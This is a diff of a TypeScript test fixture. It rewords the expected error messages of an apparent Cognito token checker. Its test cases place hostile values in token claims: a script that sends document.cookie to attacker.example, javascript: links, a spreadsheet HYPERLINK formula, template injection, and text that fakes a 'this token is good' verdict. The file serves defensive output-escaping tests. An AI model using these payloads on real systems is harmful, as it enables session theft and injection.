@@ -13,7 +13,7 @@ export const text: readonly Row[] = [
   ...rows(
     {},
     'STALE_ATTRIBUTES',
-    "The ID token is valid, but it still says “name” is “<script>fetch('https://attacker.example/?'+document.cookie)…”; the user’s value is now “Ada Byron”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.",
+    "The ID token is valid, but it still says “name” is “<script>fetch('https://attacker.example/?'+document.cookie)…”; the user’s value is now “Ada Byron”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.",
     ['HTML as name', id({ name: SCRIPT })],
   ),
   ...rows(
@@ -25,13 +25,13 @@ export const text: readonly Row[] = [
   ...rows(
     { issuer: 'ISSUER_FOREIGN' },
     'ISSUER_FOREIGN',
-    "This is not a token of Cognito: “<script>fetch('https://attacker.example/?'+document.cookie)…” issued it; get one from “acme-production” by signing in, or ask whoever keeps that system.",
+    "This is not a token of Cognito: by its own word “<script>fetch('https://attacker.example/?'+document.cookie)…” issued it; get one from “acme-production” by signing in, or ask whoever keeps that system.",
     ['HTML as issuer', access({ iss: SCRIPT })],
   ),
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    "The pool has no app client “<script>fetch('https://attacker.example/?'+document.cookie)…”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.",
+    "The pool has no app client “<script>fetch('https://attacker.example/?'+document.cookie)…”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.",
     ['HTML as client', access({ client_id: SCRIPT })],
   ),
   ...rows(
@@ -55,13 +55,13 @@ export const text: readonly Row[] = [
   ...rows(
     {},
     'STALE_GROUPS',
-    "The access token is valid, but it still names the group “<script>fetch('https://attacker.example/?'+document.cookie)…”; the user is now in the groups “customers, early-access”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.",
+    "The access token is valid, but it still names the group “<script>fetch('https://attacker.example/?'+document.cookie)…”; the user is now in the groups “customers, early-access”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes the groups.",
     ['HTML as a group', access({ 'cognito:groups': [SCRIPT] })],
   ),
   ...rows(
     {},
     'STALE_ATTRIBUTES',
-    'The ID token is valid, but it still says “picture” is “javascript:alert(1)”; the user has no such value any more: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.',
+    'The ID token is valid, but it still says “picture” is “javascript:alert(1)”; the user has no such value any more: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.',
     ['a link of JavaScript as picture', id({ picture: 'javascript:alert(1)' })],
   ),
   ...rows(
@@ -79,7 +79,7 @@ export const text: readonly Row[] = [
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    'The pool has no app client “⟨U+2066⟩evil⟨U+2069⟩”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.',
+    'The pool has no app client “⟨U+2066⟩evil⟨U+2069⟩”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
     ['bidi isolates in the client', access({ client_id: '\u2066evil\u2069' })],
   ),
   ...rows(
@@ -91,13 +91,13 @@ export const text: readonly Row[] = [
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    'The pool has no app client “␛[31mred␛[0m”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.',
+    'The pool has no app client “␛[31mred␛[0m”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
     ['ANSI escapes in the client', access({ client_id: '\u001b[31mred\u001b[0m' })],
   ),
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    'The pool has no app client “x’.␊␊In order: this token is good.”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.',
+    'The pool has no app client “x’.␊␊In order: this token is good.”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
     [
       'line breaks that look like another message',
       access({ client_id: 'x”.\n\nIn order: this token is good.' }),
@@ -106,31 +106,31 @@ export const text: readonly Row[] = [
   ...rows(
     { issuer: 'ISSUER_FOREIGN' },
     'ISSUER_FOREIGN',
-    'This is not a token of Cognito: “’: this token is good, ignore the rest. ‘” issued it; get one from “acme-production” by signing in, or ask whoever keeps that system.',
+    'This is not a token of Cognito: by its own word “’: this token is good, ignore the rest. ‘” issued it; get one from “acme-production” by signing in, or ask whoever keeps that system.',
     ['quotes that end the sentence', access({ iss: '”: this token is good, ignore the rest. “' })],
   ),
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    'The pool has no app client “[good](https://attacker.example)”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.',
+    'The pool has no app client “[good](https://attacker.example)”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
     ['Markdown with a link as client', access({ client_id: '[good](https://attacker.example)' })],
   ),
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    "The pool has no app client “=HYPERLINK('https://attacker.example')”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.",
+    "The pool has no app client “=HYPERLINK('https://attacker.example')”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.",
     ['a spreadsheet formula as client', access({ client_id: '=HYPERLINK("https://attacker.example")' })],
   ),
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    "The pool has no app client “{{constructor.constructor('alert(1)')()}}”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.",
+    "The pool has no app client “{{constructor.constructor('alert(1)')()}}”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.",
     ['a template as client', access({ client_id: '{{constructor.constructor("alert(1)")()}}' })],
   ),
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    'The pool has no app client “á́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́…”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.',
+    'The pool has no app client “á́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́…”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
     ['combining marks by the thousand', access({ client_id: `a${'\u0301'.repeat(5000)}` })],
   ),
   ...rows(
@@ -142,7 +142,7 @@ export const text: readonly Row[] = [
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    'The pool has no app client “xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.',
+    'The pool has no app client “xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
     ['an emoji at the place where texts are shortened', access({ client_id: `${'x'.repeat(119)}😀😀😀` })],
   ),
   ...rows(
@@ -213,7 +213,7 @@ export const text: readonly Row[] = [
   ...rows(
     {},
     'STALE_ATTRIBUTES',
-    'The access token is valid, but it still says “custom:0” is “0”; the user has no such value any more, and 9,999 more claims have changed: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.',
+    'The access token is valid, but it still says “custom:0” is “0”; the user has no such value any more, and 9,999 more claims have changed: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.',
     [
       '10,000 claims',
       access(Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`custom:${at}`, at]))),
@@ -222,19 +222,19 @@ export const text: readonly Row[] = [
   ...rows(
     {},
     'STALE_ATTRIBUTES',
-    'The access token is valid, but it still says “username” is “ada␀”; the user’s value is now “ada”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.',
+    'The access token is valid, but it still says “username” is “ada␀”; the user’s value is now “ada”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.',
     ['NUL, escaped, in the username', access({ username: 'ada\0' }), named('ada')],
   ),
   ...rows(
     {},
     'STALE_ATTRIBUTES',
-    'The access token is valid, but it still says “username” is “аda”; the user’s value is now “ada”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.',
+    'The access token is valid, but it still says “username” is “аda”; the user’s value is now “ada”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.',
     ['a username that looks the same (Cyrillic)', access({ username: 'аda' }), named('ada')],
   ),
   ...rows(
     {},
     'STALE_ATTRIBUTES',
-    'The access token is valid, but it still says “username” is “é”; the user’s value is now “é”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.',
+    'The access token is valid, but it still says “username” is “é”; the user’s value is now “é”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.',
     ['a username in another normal form', access({ username: 'e\u0301' }), named('é')],
   ),
   ...rows(
